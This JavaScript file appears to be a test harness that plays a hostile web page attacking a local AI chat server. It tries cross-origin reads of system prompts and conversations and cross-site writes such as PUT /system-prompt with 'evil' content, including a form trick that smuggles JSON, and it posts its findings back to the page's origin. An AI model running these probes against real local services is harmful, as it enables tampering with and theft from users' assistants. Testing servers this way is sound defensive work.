// What a page of somebody else's tries against a server on the visitor's own machine. Reports all that it got to whoever served it.
const targets = TARGETS;
const paths = ["/system-prompt", "/about", "/conversations", "/conversations/c/system-prompt", "/openapi.json", "/healthz", "/"];
const evil = JSON.stringify({ template: "evil", message: "evil" });
const report = [];

const within = (attempt) => Promise.race([attempt, new Promise((_, reject) => setTimeout(() => reject("no answer"), 4000))]);

async function attempt(what, run) {
  try {
    report.push({ what, got: String(await within(run())) });
  } catch (error) {
    report.push({ what, got: "", why: String(error) });
  }
}

async function text(url, options) {
  const response = await fetch(url, { credentials: "include", ...options });
  return response.type === "opaque" ? "" : `${response.status} ${await response.text()}`;
}

// Adds an element, and tells what can be seen of what it loaded.
function element(name, attributes, seen) {
  return new Promise((resolve, reject) => {
    const made = Object.assign(document.createElement(name), attributes);
    made.onload = () => resolve(seen(made));
    made.onerror = () => reject("refused");
    document.body.append(made);
  });
}

function post(url, type, name, value) {
  const frame = document.createElement("iframe");
  frame.name = `frame${Math.random()}`;
  const form = Object.assign(document.createElement("form"), { action: url, method: "post", enctype: type, target: frame.name });
  form.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(frame, form);
  return new Promise((resolve) => {
    frame.onload = () => resolve(inside(frame));
    form.submit();
  });
}

function inside(frame) {
  try {
    return frame.contentDocument ? frame.contentDocument.body.textContent : "";
  } catch {
    return "";
  }
}

function socket(url) {
  return new Promise((resolve, reject) => {
    const opened = new WebSocket(url);
    opened.onopen = () => resolve("opened");
    opened.onerror = () => reject("refused");
  });
}

function stream(url) {
  return new Promise((resolve, reject) => {
    const opened = new EventSource(url, { withCredentials: true });
    opened.onopen = () => resolve("opened");
    opened.onmessage = (event) => resolve(event.data);
    opened.onerror = () => reject("refused");
  });
}

async function attack(base) {
  const all = [];
  const add = (what, run) => all.push(attempt(`${what} ${base}`, run));
  for (const path of paths) {
    for (const mode of ["cors", "no-cors", "same-origin"]) {
      add(`fetch ${mode} ${path}`, () => text(base + path, { mode }));
    }
    add(`script ${path}`, () => element("script", { src: base + path }, () => ""));
    add(`img ${path}`, () => element("img", { src: base + path }, (img) => `${img.naturalWidth}`));
    add(`link ${path}`, () => element("link", { rel: "stylesheet", href: base + path }, (link) => `${link.sheet.cssRules.length}`));
    add(`iframe ${path}`, () => element("iframe", { src: base + path }, inside));
    add(`object ${path}`, () => element("object", { data: base + path }, inside));
  }
  for (const [method, path] of [["PUT", "/system-prompt"], ["POST", "/conversations/evil/turns"], ["POST", "/conversations/evil/messages"], ["POST", "/links"], ["POST", "/sessions"]]) {
    const json = { "content-type": "application/json" };
    add(`fetch ${method} ${path}`, () => text(base + path, { method, body: evil, headers: json }));
    add(`fetch ${method} ${path} with proof`, () => text(base + path, { method, body: evil, headers: { ...json, authorization: "Bearer 1" } }));
    add(`plain ${method} ${path}`, () => text(base + path, { method: "POST", mode: "no-cors", body: evil, headers: { "content-type": "text/plain" } }));
    add(`form ${path}`, () => post(base + path, "text/plain", '{"template":"evil","message":"evil","x":"', '"}'));
    add(`form ${path}`, () => post(base + path, "application/x-www-form-urlencoded", "template", "evil"));
    add(`beacon ${path}`, async () => (navigator.sendBeacon(base + path, new Blob([evil], { type: "text/plain" })), ""));
  }
  add("WebSocket", () => socket(base.replace("http", "ws") + "/conversations"));
  add("EventSource", () => stream(base + "/conversations"));
  await Promise.all(all);
}

(async () => {
  await attempt("own", () => text("/own"));
  for (const base of targets) await attack(base);
  await fetch("/report", { method: "POST", body: JSON.stringify(report) });
})();
